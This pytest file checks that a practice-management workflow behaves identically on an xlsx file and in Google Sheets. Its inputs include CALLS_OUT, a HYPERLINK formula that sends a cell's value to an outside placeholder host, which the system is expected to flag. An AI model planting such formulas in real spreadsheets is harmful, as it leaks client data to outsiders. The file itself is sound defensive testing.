"""The same practice, in a file and in Google: the same effects, findings and files, step by step."""

import json
import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell

from connectors.google.emulator import Hands
from flows.desk import Pass
from flows.report import as_json
from sheets_schema.grid import FormulaCell, Raw
from tests.connectors.google.place import Place, google
from tests.flows.on_google import release_on_google, sample_on_google
from tests.flows.sampled import NEXT_DAY, passed, release, sample, typed
from tests.flows.test_no_leak_faults import unpacked

pytestmark = pytest.mark.xdist_group("google")  # its practice is made once, in one process

STEPS = ("first pass", "nothing new", "released", "a mark corrected", "a cell nobody can read", "the next day")
TABS = (
    "Clients",
    "Sessions",
    "Attendance",
    "Decisions",
    "To do",
    "Claims",
    "Notes",
    "Messages",
    "Benefits",
    "Grid",
    "Dashboard",
)


@dataclass
class Side:
    """One of the two places of the practice, and what came of each step there."""

    folder: Path
    type: Callable[..., None]
    release: Callable[[], None]
    odd: Callable[[], None]
    came: dict[str, dict[str, Any]] = field(default_factory=dict)

    def step(self, name: str, this: Pass) -> None:
        self.came[name] = told(this) | files(self.folder) | {"tabs": tabs(this)}


def told(this: Pass) -> dict[str, Any]:
    said = as_json(this)
    assert said.pop("pass_id")
    return said


def files(folder: Path) -> dict[str, Any]:
    found = {}
    for part in ("documents", "claims", "outbox"):
        found[part] = {p.name: _without_mark(p) for p in (folder / part).rglob("*") if p.is_file()}
    return found


def _without_mark(path: Path) -> bytes | str:
    """A file's bytes; a mail in words, without the mark of the records, which each ledger seals with a key of its own."""
    content = path.read_bytes()
    if path.suffix != ".eml":
        return content
    return re.sub(r"Mark of the records: \S+", "", message_from_bytes(content, policy=policy.default).get_content())


def tabs(this: Pass) -> dict[str, Any]:
    grids = this.desk.workbook.snapshot(TABS).grids
    return {title: [tuple(map(_entered, row)) for row in grid.rows] for title, grid in grids.items()}


def _entered(cell: Raw) -> Raw:
    """A cell; of a formula only itself, since a program that fills in a file works nothing out."""
    return str(cell) if isinstance(cell, FormulaCell) else cell


CALLS_OUT = '=HYPERLINK("https://example.com/?"&D2,"Present")'
LOOKS = (("Clients", "C-005", "Member ID", 123, "00000"), ("Payments", "P-002", "Amount", 0.2, "0%"))
"""Numbers that look other than they are."""


def odd_in_file(path: Path) -> None:
    """What says more than a value, put in with another program: a formula, looks, a hidden row, merged cells."""
    book = load_workbook(path)

    def cell(tab: str, row_id: str, heading: str) -> Cell:
        row = next(r[0].row for r in book[tab].iter_rows(max_col=1) if r[0].value == row_id)
        column = next(c.column for c in book[tab][1] if c.value == heading)
        found = book[tab].cell(row, column)
        assert isinstance(found, Cell)
        return found

    cell("Attendance", "G-02/05/C-008", "Mark").value = CALLS_OUT
    for tab, row_id, heading, value, look in LOOKS:
        at = cell(tab, row_id, heading)
        at.value, at.number_format = value, look
    hidden, merged = (cell("Attendance", row_id, "Reason") for row_id in ("G-01/05/C-002", "G-01/04/C-001"))
    book["Attendance"].row_dimensions[hidden.row].hidden = True
    merged.value = "Snow"
    end = merged.row + 1
    book["Attendance"].merge_cells(None, merged.row, merged.column, end, merged.column)
    book.save(path)


def odd_in_google(hands: Hands) -> None:
    """The same in Google."""
    row, mark, reason = (
        hands.row_of("Attendance", "G-02/05/C-008"),
        hands.column_of("Attendance", "Mark"),
        hands.column_of("Attendance", "Reason"),
    )
    hands.look("Attendance", row, mark, "NUMBER", "0")  # else the column takes the formula for text
    hands.put("Attendance", row, mark, CALLS_OUT)
    for tab, row_id, heading, value, look in LOOKS:
        place = hands.row_of(tab, row_id), hands.column_of(tab, heading)
        hands.put(tab, *place, value)
        hands.look(tab, *place, "PERCENT" if look.endswith("%") else "NUMBER", look)
    hands.hide_row("Attendance", hands.row_of("Attendance", "G-01/05/C-002"))
    row = hands.row_of("Attendance", "G-01/04/C-001")
    hands.put("Attendance", row, reason, "Snow")
    hands.merge("Attendance", row, reason, down=2)


def work(side: Side) -> None:
    side.step(STEPS[0], passed(side.folder))
    side.step(STEPS[1], passed(side.folder))
    side.release()
    side.step(STEPS[2], passed(side.folder))
    side.type("Attendance", "G-01/05/C-004", Mark="No-show")
    side.step(STEPS[3], passed(side.folder))
    side.type("Clients", "C-002", Mobile="call her sister")
    side.type("Attendance", "G-01/05/C-001", Mark="perhaps")
    side.odd()
    side.step(STEPS[4], passed(side.folder))
    side.step(STEPS[5], passed(side.folder, NEXT_DAY))


@pytest.fixture(scope="module")
def sides(_fresh: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Side, Side, Place]]:
    place_of_files = tmp_path_factory.mktemp("both")
    with ExitStack() as stack:
        place = stack.enter_context(google())
        file = Path(shutil.copytree(_fresh, place_of_files / "file"))
        cloud = sample_on_google(place_of_files / "cloud", place, sample())

        def type_there(tab: str, row_id: str, **cells: object) -> None:
            place.hands.type(tab, row_id, {h.replace("_", " "): v for h, v in cells.items()})

        in_file = Side(
            file,
            lambda tab, row_id, **cells: typed(file, tab, row_id, **cells),
            lambda: release(file),
            lambda: odd_in_file(file / "practice.xlsx"),
        )
        in_google = Side(cloud, type_there, lambda: release_on_google(cloud, place), lambda: odd_in_google(place.hands))
        for side in (in_file, in_google):
            work(side)
        yield in_file, in_google, place


@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize("what", ["effects", "holds", "findings", "documents", "claims", "outbox", "tabs"])
def test_google_and_a_file_come_to_the_same(sides: tuple[Side, Side, Place], step: str, what: str) -> None:
    file, cloud, _ = sides
    assert cloud.came[step][what] == file.came[step][what]


def test_the_steps_did_something(sides: tuple[Side, Side, Place]) -> None:
    _, cloud, _ = sides
    came = cloud.came
    assert len(came["first pass"]["effects"]) > 100
    assert came["nothing new"]["effects"] == []
    assert [e["kind"] for e in came["released"]["effects"]].count("batch") == 1
    assert came["a mark corrected"]["effects"]
    assert {(f["code"], f["row_id"]) for f in came["a cell nobody can read"]["findings"]} == {
        ("PHONE_DIGITS", "C-002"),
        ("MARK_UNKNOWN", "G-01/05/C-001"),
        ("CELL_FORMULA_OUT", "G-02/05/C-008"),
        ("MONEY_IS_PERCENT", "P-002"),
        ("CELL_MERGED", ""),
        ("ROWS_HIDDEN", ""),
    }
    assert "00123" in {str(cell) for row in came["a cell nobody can read"]["tabs"]["Clients"] for cell in row}
    assert came["the next day"]["effects"]


def test_people_see_the_answers_beside_their_rows(sides: tuple[Side, Side, Place]) -> None:
    *_, place = sides
    rows = place.hands.seen("Attendance")
    check, note = rows[0].index("Check"), rows[0].index("Note")
    by_id = {row[0]: row for row in rows[1:]}
    assert "perhaps" in by_id["G-01/05/C-001"][check]
    assert (by_id["G-01/05/C-006"][check], by_id["G-01/05/C-002"][note]) == ("OK", "signed")
    assert place.hands.seen("Roster")[0][3] == "Name"


def test_the_key_stands_in_its_own_file_and_nowhere_else(sides: tuple[Side, Side, Place]) -> None:
    folder = sides[1].folder
    key = json.loads((folder / "google-key.json").read_text())["refresh_token"]
    holding = {file.name for file in folder.rglob("*") if file.is_file() and key.encode() in unpacked(file)}
    assert holding == {"google-key.json"}
    assert key not in repr(sides[1].came), "nor in an effect, a finding or a tab"


def test_links_of_the_to_do_list_lead_to_the_cell(sides: tuple[Side, Side, Place]) -> None:
    *_, place = sides
    book = place.hands.book
    numbers = {sheet.title: sheet.id for sheet in book.sheets}
    sheet = place.hands.tab("To do")
    formulas = [row[0].get("userEnteredValue", {}).get("formulaValue", "") for row in sheet.rows[1:] if 0 in row]
    row = place.hands.row_of("Attendance", "G-01/05/C-001")
    assert any(f.startswith(f'=HYPERLINK("#gid={numbers["Attendance"]}&range=F{row}"') for f in formulas)
